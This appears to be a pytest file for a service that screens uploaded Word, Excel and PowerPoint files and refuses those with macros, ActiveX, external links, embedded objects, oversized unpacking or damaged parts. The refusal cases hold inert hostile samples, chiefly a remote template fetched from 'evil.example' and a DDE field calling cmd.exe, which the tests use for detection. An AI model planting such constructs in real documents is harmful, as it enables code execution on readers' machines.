"""What acts, fetches or hides in a document of Word, Excel or PowerPoint is refused, with its place and what to do."""

from __future__ import annotations

import io
import zipfile

import pytest

from fourfold.ground.files import office
from fourfold.ground.files.kinds import examined
from fourfold.ground.files.refusals import NotAccepted
from tests.ground.files.made import an_office_file, relationships


def refusal(content: bytes, name: str = "report.docx") -> str:
    with pytest.raises(NotAccepted) as refused:
        examined(io.BytesIO(content), name=name)
    return str(refused.value)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_a_plain_document_is_kept_as_it_was_sent(kind: str) -> None:
    content = an_office_file(kind)
    found = examined(io.BytesIO(content), name="report.bin")
    found.content.seek(0)
    assert found.name == f"report.{kind}"
    assert found.content.read() == content


def test_addresses_that_one_clicks_and_sheets_behind_charts_are_no_reason_to_refuse() -> None:
    examined(
        io.BytesIO(
            an_office_file(
                parts={
                    "word/_rels/document.xml.rels": relationships("hyperlink", "https://example.org"),
                    "word/embeddings/Sheet1.xlsx": an_office_file("xlsx"),
                }
            )
        ),
        name="report.docx",
    )


@pytest.mark.parametrize(
    ("part", "content", "says"),
    [
        ("word/vbaProject.bin", b"x", "contains macros (in word/vbaProject.bin)"),
        ("word/VBAPROJECT.BIN", b"x", "contains macros"),
        ("xl/macrosheets/sheet1.xml", b"<a/>", "contains macros"),
        ("word/activeX/activeX1.xml", b"<a/>", "controls that run programs"),
        ("xl/externalLinks/externalLink1.xml", b"<a/>", "links to other files"),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", "another file embedded in it"),
        ("word/embeddings/it.docx", b"PK\x03\x04 and no archive", "damaged"),
        (
            "word/_rels/settings.xml.rels",
            relationships("attachedTemplate", "https://evil.example/t.dotm"),
            "fetches something from elsewhere (https://evil.example/t.dotm)",
        ),
        ("word/_rels/document.xml.rels", relationships("image", "file://x/y.png"), "fetches something"),
        (
            "docProps/types.xml",
            b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
            "saved as a document with macros",
        ),
        (
            "word/header1.xml",
            b"<w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>".replace(
                b"<w:r>", b'<w:r xmlns:w="w">'
            ),
            "has a field that fetches",
        ),
        ("word/entities.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "declares entities"),
        ("word/broken.xml", b"<a><b></a>", "not the XML it should be"),
    ],
)
def test_what_acts_fetches_or_hides_is_refused(part: str, content: bytes, says: str) -> None:
    said = refusal(an_office_file(parts={part: content}))
    assert says in said
    assert said.startswith("“report.docx")
    assert "upload" in said, "it says what to do"


def test_an_embedded_document_is_held_to_the_same_rules() -> None:
    inner = an_office_file("xlsx", {"xl/vbaProject.bin": b"x"})
    assert "macros" in refusal(an_office_file(parts={"word/embeddings/Sheet1.xlsx": inner}))
    twice = an_office_file(parts={"word/embeddings/a.xlsx": an_office_file("xlsx")})
    assert "embedded" in refusal(an_office_file(parts={"word/embeddings/b.docx": twice}))


def test_what_grows_out_of_all_proportion_is_refused() -> None:
    said = refusal(an_office_file(parts={"word/media/a.bin": bytes(4 * 1024 * 1024)}))
    assert "more than 250 times its size (in word/media/a.bin)" in said


def test_the_size_is_counted_over_what_is_embedded_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MOST_UNPACKED", 3_000)
    inner = an_office_file("xlsx", {"xl/a.txt": b"0123456789" * 100})
    examined(io.BytesIO(an_office_file(parts={"word/embeddings/1.xlsx": inner})), name="one.docx")
    three = {f"word/embeddings/{number}.xlsx": inner for number in range(3)}
    assert "unpacks to more than" in refusal(an_office_file(parts=three))


def test_too_many_parts_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MOST_PARTS", 10)
    assert "more parts than we look" in refusal(an_office_file(parts={f"a/{n}.txt": b"" for n in range(9)}))


def test_an_archive_and_an_opendocument_file_are_named_as_what_they_are() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("photo.jpg", b"x")
    assert "“all.docx” is an archive" in refusal(content.getvalue(), "all.docx")
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<a/>")
    assert "OpenDocument" in refusal(content.getvalue(), "minutes.odt")


def test_a_part_whose_checksum_is_wrong_is_refused() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<main/>")
        archive.writestr("word/media/a.bin", b"as it was written")
    assert "damaged" in refusal(content.getvalue().replace(b"as it was", b"as it is "))
